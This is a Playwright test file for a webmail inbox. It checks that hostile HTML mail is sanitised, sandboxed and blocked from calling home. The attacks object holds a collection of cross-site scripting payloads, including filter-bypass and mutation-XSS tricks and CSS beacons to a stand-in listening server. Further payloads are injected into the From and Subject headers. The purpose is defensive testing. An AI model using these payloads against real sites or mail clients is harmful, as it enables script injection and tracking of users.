import { createServer } from "node:http";
import type { Page } from "@playwright/test";
import { imageProxyPath, inboxTexts, limits } from "../packages/contracts/src/index.ts";
import { expect, html, mail, rowsOf, test } from "./page.ts";

/** What an attack does when it runs; the browser reports both, from whichever frame. */
const owned = "console.log('owned');alert('owned')";

/** Each is a mail of its own: HTML that tries to run, or to call home (threats 21 to 25). */
const attacks = (evil: string) => ({
  "script (I61)": `<script>${owned}</script><script src="${evil}/x.js"></script><scr<script>ipt>${owned}</script>`,
  "handlers (I66)": `<img src=x onerror="${owned}"><p onmouseover="${owned}" onclick="${owned}">p</p><details open ontoggle="${owned}">d</details>`,
  "links (I68)": `<a href="javascript:${owned}">one</a><a href=" java&#10;script:${owned}">two</a><a href="data:text/html,<script>${owned}</script>">three</a>`,
  "frames (I62 to I64)": `<iframe src="${evil}" srcdoc="<script>${owned}</script>"></iframe><object data="${evil}/o"></object><embed src="${evil}/e">`,
  "forms (I65)": `<form action="${evil}"><input autofocus onfocus="${owned}"><button formaction="javascript:${owned}">b</button></form>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${evil}"><base href="${evil}/">`,
  drawings: `<svg onload="${owned}"><script>${owned}</script><image href="${evil}/i"/></svg><math><mtext><style><img src=x onerror="${owned}"></style></mtext></math>`,
  styles: `<style>@import url(${evil}/a.css);@font-face{font-family:x;src:url(${evil}/f)}p{background:url(${evil}/b);font-family:x}</style><p style="background-image:url('${evil}/c')">styled</p><link rel="stylesheet" href="${evil}/l.css"><link rel="prefetch" href="${evil}/p">`,
  images: `<img srcset="${evil}/s 2x"><table background="${evil}/t"><tr><td>cell</td></tr></table><video poster="${evil}/v" src="${evil}/w"></video>`,
  "dialogs and evaluation (I69, I70)": `<script>alert('owned');confirm('owned');prompt('owned');eval("${owned}")</script>`,
  "broken markup": `<noscript><p title="</noscript><img src=x onerror=${owned}>"></noscript><p id="</style><script>${owned}</script>">n</p>`,
});

/** The sender's own server, which hears whoever comes. */
async function eavesdropper() {
  const heard: { url: string | undefined; referer: string | undefined }[] = [];
  const server = createServer(({ url, headers }, response) => {
    heard.push({ url, referer: headers.referer });
    response.setHeader("Content-Type", "text/html").end("<title>Elsewhere</title>");
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => server.once("listening", resolve));
  const { port } = server.address() as { port: number };
  return { heard, url: `http://127.0.0.1:${port}`, [Symbol.dispose]: () => server.close() };
}

/** What ran, and what was asked of other origins, from now on. */
function watch(page: Page, own: string) {
  const ran: string[] = [];
  const left = new Set<string>();
  page.on("dialog", (dialog) => {
    ran.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("console", (line) => line.text() === "owned" && ran.push("console"));
  page.on("popup", (popup) => ran.push(`popup ${popup.url()}`));
  page.on("request", (request) => {
    const { origin, protocol } = new URL(request.url());
    if (origin !== own && protocol.startsWith("http")) left.add(request.url());
  });
  // Stopped by the policy of the frame before it left.
  page.on("requestfailed", (request) => request.failure()?.errorText === "csp" && left.delete(request.url()));
  return { ran, left };
}

test("hostile mail runs nothing, and reaches nobody outside (I61 to I66, I69, I70, threats 21 to 25)", async ({
  page,
  mayfly,
  address,
  deliver,
  openInbox,
  allow,
}) => {
  // The proxy refuses to fetch from this machine.
  allow(new RegExp(`Failed to load resource.*${imageProxyPath}`));
  allow(/Content Security Policy/);
  using evil = await eavesdropper();
  const { ran, left } = watch(page, mayfly.url);
  const all = attacks(evil.url);
  await deliver(address, ...Object.entries(all).map(([name, body]) => html(name, `${body}<p>the end</p>`)));
  await openInbox(address);
  const frame = page.frameLocator("iframe");
  for (const name of Object.keys(all)) {
    await rowsOf(page).filter({ hasText: name }).click();
    await expect(page.getByRole("heading", { name, exact: true })).toBeVisible();
    await expect(frame.getByText("the end", { exact: true }), name).toBeVisible();
    // Whatever a visitor could do to each element.
    const found = await frame.locator("body").evaluate((body) => {
      const elements = [...body.querySelectorAll<HTMLElement>("*")];
      for (const element of elements) {
        for (const type of ["mouseover", "focus", "error", "load", "toggle"]) element.dispatchEvent(new Event(type));
        if (!element.matches("a[href^=http]")) element.click();
      }
      const forbidden = "script, iframe, object, embed, form, input, button, meta, base, link, svg, video";
      return [
        ...elements.filter((element) => element.matches(forbidden)).map((element) => element.tagName),
        ...elements.flatMap((element) =>
          element.getAttributeNames().filter((attribute) => /^on|srcset/.test(attribute)),
        ),
        ...elements.map((element) => element.getAttribute("href") ?? "").filter((href) => /script:|data:/.test(href)),
      ];
    });
    expect(found, name).toEqual([]);
  }
  expect(ran).toEqual([]);
  expect([...left]).toEqual([]);
  expect(evil.heard).toEqual([]);
  // The watch itself is awake.
  await page.evaluate(() => console.log("owned"));
  await expect.poll(() => ran).toEqual(["console"]);
});

test("what a sender writes into subject, name and plain text is text (I16, I17, I54)", async ({
  page,
  mayfly,
  address,
  deliver,
  openInbox,
}) => {
  const { ran, left } = watch(page, mayfly.url);
  const payload = `<img src=x onerror="${owned}"></title><script>${owned}</script>`;
  const head = [`From: "${payload.replaceAll('"', '\\"')}" <x@evil.example>`, `Subject: ${payload}`];
  await openInbox(address);
  // Over the live connection, and so into the toast as well.
  await deliver(address, [...head, "", `plain ${payload} </div>`, ""].join("\r\n"));
  const row = rowsOf(page).first();
  await expect(row).toContainText(payload);
  await row.click();
  await expect(page.getByRole("heading", { name: payload, exact: true })).toBeVisible();
  await expect(page.frameLocator("iframe").getByText(`plain ${payload} </div>`)).toBeVisible();
  await expect(page.getByText(inboxTexts.newMail(payload), { exact: true }).first()).toBeVisible();
  expect(await page.locator("img[src=x], #root script").count()).toBe(0);
  expect(ran).toEqual([]);
  expect([...left]).toEqual([]);
});

test("links lead out into a new tab that knows nothing of us (I68)", async ({ page, address, deliver, openInbox }) => {
  using evil = await eavesdropper();
  const body = `<a href="${evil.url}/out">out</a><a href="/dashboard">in</a><a href="mailto:a@b.example">write</a>`;
  await deliver(address, html("links", body), mail("plain", `See ${evil.url}/plain.`));
  await openInbox(address);
  const frame = page.frameLocator("iframe");
  await rowsOf(page).filter({ hasText: "links" }).click();
  const link = frame.getByText("out", { exact: true });
  await expect(link).toHaveAttribute("target", "_blank");
  await expect(link).toHaveAttribute("rel", /\bnoopener\b/);
  expect(await frame.getByText("in", { exact: true }).getAttribute("href")).toBeNull();
  const opened = page.waitForEvent("popup");
  await link.click();
  const popup = await opened;
  await expect(popup).toHaveTitle("Elsewhere");
  expect(await popup.evaluate(() => window.opener)).toBeNull();
  expect(evil.heard.filter(({ url }) => url === "/out")).toEqual([{ url: "/out", referer: undefined }]);
  await popup.close();

  await rowsOf(page).filter({ hasText: "plain" }).click();
  await expect(frame.getByRole("link", { name: `${evil.url}/plain`, exact: true })).toHaveAttribute("target", "_blank");
});

test("images come from the proxy or from the message itself (I67)", async ({
  page,
  mayfly,
  address,
  deliver,
  openInbox,
  allow,
}) => {
  allow(new RegExp(`Failed to load resource.*${imageProxyPath}`));
  const { left } = watch(page, mayfly.url);
  const dot = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
  const outside = "https://pictures.example/a.png?b=1&c=2";
  const body = [
    "--b",
    "Content-Type: text/html",
    "",
    `<img id="own" src="cid:dot"><img id="outside" src="${outside.replaceAll("&", "&amp;")}"><p>the end</p>`,
    "--b",
    "Content-Type: image/png",
    "Content-ID: <dot>",
    "Content-Transfer-Encoding: base64",
    "",
    dot,
    "--b--",
  ].join("\r\n");
  await deliver(address, mail("images", body, ["MIME-Version: 1.0", 'Content-Type: multipart/related; boundary="b"']));
  await openInbox(address);
  await rowsOf(page).first().click();
  const frame = page.frameLocator("iframe");
  const own = frame.locator("#own");
  await expect.poll(() => own.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1);
  const proxied = `${imageProxyPath}?url=${encodeURIComponent(outside)}&`;
  expect((await frame.locator("#outside").getAttribute("src"))?.slice(0, proxied.length)).toBe(proxied);
  expect([...left]).toEqual([]);
});

test("the frame is shut in, 600 px high, and of light paper at night too (I29, I69, I70)", async ({
  page,
  address,
  deliver,
  openInbox,
}) => {
  await page.emulateMedia({ colorScheme: "dark" });
  await deliver(address, html("paper", "<p>the end</p>"));
  await openInbox(address);
  await rowsOf(page).first().click();
  const frame = page.locator("iframe");
  await expect(frame).toHaveAttribute("sandbox", "allow-popups allow-popups-to-escape-sandbox");
  expect((await frame.boundingBox())?.height).toBe(limits.inboxFrameHeight);
  await expect(page.locator("body")).toHaveCSS("background-color", "rgb(18, 18, 17)");
  const paper = page.frameLocator("iframe").locator("body");
  await expect(paper).toHaveCSS("background-color", "rgb(255, 255, 255)");
  await expect(paper).toHaveCSS("color", "rgb(23, 23, 22)");
});

test("a message of nothing but a script has no content (I30)", async ({ page, address, deliver, openInbox }) => {
  await deliver(address, html("empty", `<script>${owned}</script>`));
  await openInbox(address);
  await rowsOf(page).first().click();
  await expect(page.getByText(inboxTexts.noContent)).toBeVisible();
  await expect(page.locator("iframe")).toHaveCount(0);
});
